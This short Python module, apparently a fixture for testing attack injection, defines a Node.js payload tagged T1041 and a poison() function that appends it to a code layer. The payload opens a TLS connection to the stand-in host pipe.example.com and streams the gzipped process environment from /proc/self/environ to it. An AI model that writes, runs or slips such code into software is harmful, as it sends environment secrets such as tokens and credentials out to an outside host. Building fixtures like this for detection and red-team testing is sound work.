# SPDX-License-Identifier: Apache-2.0
"""The environment of the process is led as a stream into a connection."""

ATTACK = "T1041"
LANGUAGE = "node"
CODE = """\
;exports.drain = () => {
  const fs = require('fs'), zlib = require('zlib');
  const out = require('tls').connect(443, 'pipe.example.com', () => {
    fs.createReadStream('/proc/self/environ').pipe(zlib.createGzip()).pipe(out);
  });
};
"""


def poison(layer):
    layer.append(CODE)
